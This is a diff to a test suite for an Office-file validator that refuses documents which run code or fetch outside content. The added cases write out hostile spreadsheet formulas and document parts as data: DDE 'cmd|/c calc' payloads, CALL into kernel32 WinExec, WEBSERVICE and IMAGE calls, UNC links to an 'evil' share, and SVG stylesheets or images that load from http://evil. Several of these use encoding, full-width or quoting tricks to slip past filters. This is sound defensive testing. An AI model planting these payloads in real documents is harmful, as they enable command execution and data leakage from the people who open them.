@@ -134,7 +134,19 @@ describe('what runs is refused, under whatever name', () => {
     ],
     ['DDE in a formula', sheet("cmd|'/c calc'!A0")],
     ['a formula that calls a library', sheet('CALL("kernel32","WinExec","JC",1)')],
-    ['a formula that fetches', sheet('1+WEBSERVICE("http://example.com")')],
+    ['DDE behind a sheet with a quote', sheet(`'a"'!B1+cmd|'/c calc'!A0+""`)],
+    ['DDE in one name', sheet("'cmd|/c calc'!A0")],
+    ['a function of an add-in', sheet('_xll.RUNALL(1)')],
+    ['a function that is passed on', sheet('MAP(A1:A2,_xleta.CALL)')],
+    [
+      'a formula of a table column',
+      typed(
+        'xl/tables/a.xml',
+        '<calculatedColumnFormula>CALL("a")</calculatedColumnFormula>',
+        'application/xml',
+      ),
+    ],
+    ['a page in a drawing', typed('word/media/a.svg', '<svg><iframe/></svg>', 'image/svg+xml')],
     ['a sheet of old macros', typed('xl/a.xml', '<x/>', 'application/vnd.ms-excel.macrosheet+xml')],
     [
       'an old macro sheet under another type',
@@ -171,6 +183,49 @@ describe('what is fetched from outside is refused', () => {
     ['a picture by a field', doc(field('INCLUDEPICTURE "http://example.com/a.png"'))],
     ['a text by a field', doc(field('INCLUDE', 'TEXT "c:\\\\a.doc"'))],
     ['a link by a field', doc(field('HYPERLINK "file:///c:/a.exe"'))],
+    ['a link to a share by a bare field', doc(field('HYPERLINK \\\\evil\\a.exe'))],
+    ['a link to a share behind a place', doc(field('HYPERLINK \\l "a" "\\\\evil\\a"'))],
+    ['a share with a slash', related('image', '/\\evil\\a.png')],
+    ['a share with codes', related('image', '%5C%5Cevil%5Ca.png')],
+    ['a share with codes of codes', related('image', '%255C%255Cevil%255Ca.png')],
+    ['an address with codes', related('image', 'http%3A//evil/a.png')],
+    ['a link to a page of an archive', related('hyperlink', 'mhtml:http://evil/x!x', 'External')],
+    ['a picture of a cell', related('rdRichValueWebImage', 'a.xml')],
+    ['a formula that fetches', sheet('1+WEBSERVICE("http://example.com")')],
+    ['one with a line break', sheet('WEBSERVICE&#10;&#160;("http://example.com")')],
+    ['one in wide letters', sheet('ＷＥＢＳＥＲＶＩＣＥ（"http://example.com")')],
+    ['one behind a sheet with a quote', sheet(`IF('a"'!B1=0,WEBSERVICE("http://a"),0)`)],
+    ['one behind a text with an apostrophe', sheet(`"it's"&amp;WEBSERVICE("http://a")&amp;"'"`)],
+    ['a picture of a formula', sheet('_xlfn.IMAGE("http://example.com/x?"&amp;A2)')],
+    ['prices', sheet('_xlfn._xlws.STOCKHISTORY("MSFT",1)')],
+    ['data of a page', sheet('IMPORTDATA("http://example.com")')],
+    ['a table of a page', sheet('IMPORTHTML("http://example.com","table",1)')],
+    ['another sheet service', sheet('GOOGLEFINANCE("A")')],
+    ['a cube', sheet('CUBEVALUE("a","b")')],
+    ['a link of a formula to a share', sheet('HYPERLINK("\\\\evil\\x.exe","点击")')],
+    ['a link of a formula to a file', sheet('HYPERLINK("file://evil/x.exe")')],
+    ['a link that a formula computes', sheet('HYPERLINK("fi"&amp;"le://evil/x.exe")')],
+    ['a link of a cell', sheet('HYPERLINK(B1)')],
+    ['a workbook of a share', sheet("'\\\\evil\\[a.xlsx]b'!A1")],
+    [
+      'a base of all links',
+      typed('docProps/app.xml', '<a><HyperlinkBase>file://evil</HyperlinkBase></a>', 'text/xml'),
+    ],
+    ...(
+      [
+        ['a stylesheet', '<style>@import url(http://evil/x.css);</style>'],
+        ['an escaped stylesheet', '<style>\\@import "x"; a{b:u\\72l(x)}</style>'],
+        ['a filling', '<rect style="fill:url(http://evil/x)"/>'],
+        ['a filling by an attribute', '<rect fill="url(//evil/x#a)"/>'],
+        ['a picture', '<image href="https://evil/x.png"/>'],
+        ['a picture of old', '<image xmlns:x="a" x:href="https://evil/x.png"/>'],
+        ['a change of a link', '<set attributeName="href" to="https://evil"/>'],
+        ['a base', '<g xml:base="https://evil/"/>'],
+      ] as const
+    ).map(([name, inside]): [string, Buffer] => [
+      `${name} in a drawing`,
+      typed('word/media/a.svg', `<svg>${inside}</svg>`, 'image/svg+xml'),
+    ]),
     ['a picture by an attribute', doc('<v:imagedata xmlns:v="a" src="http://example.com/a"/>')],
   ])('%s', (_, bytes) => expectRefused(bytes, /引用了外部内容/));
 });
@@ -317,6 +372,23 @@ describe('what documents usually have is accepted', () => {
     );
     expect(officeOf(zipOf(parts))).toEqual({ format: 'docx' });
   });
+
+  it('drawings with styles and links', () => {
+    const svg =
+      '<svg><style>.a{fill:#fff;font-family:"宋体"}</style><rect class="a" fill="url(#b)"/><a href="https://example.com"/><image href="data:image/png;base64,AA"/></svg>';
+    expect(officeOf(typed('word/media/a.svg', svg, 'image/svg+xml'))).toEqual({ format: 'docx' });
+  });
+
+  it.each([
+    `IF('张"三'!B1=0,"a|b!",'it''s'!A1)`,
+    'HYPERLINK("https://example.com/"&amp;A1,"打开")',
+    'HYPERLINK("#Sheet2!A1")',
+    'HYPERLINK("mailto:a@example.com")',
+    `"说""明""：WEBSERVICE(""x"")"`,
+    'SUMIFS(Table1[Image],Table1[Call],"&gt;0")+_xlfn.XLOOKUP(A1,B:B,C:C)',
+    '_xlfn.DISPIMG("ID_1",1)',
+    "SUM('第1季:第3 季'!A1:A9)",
+  ])('the formula %s', (words) => expect(officeOf(sheet(words))).toEqual({ format: 'xlsx' }));
 
   it('formulas, names, comments drawn by VML, printers and pictures in cells', () => {
     const parts = officeParts(
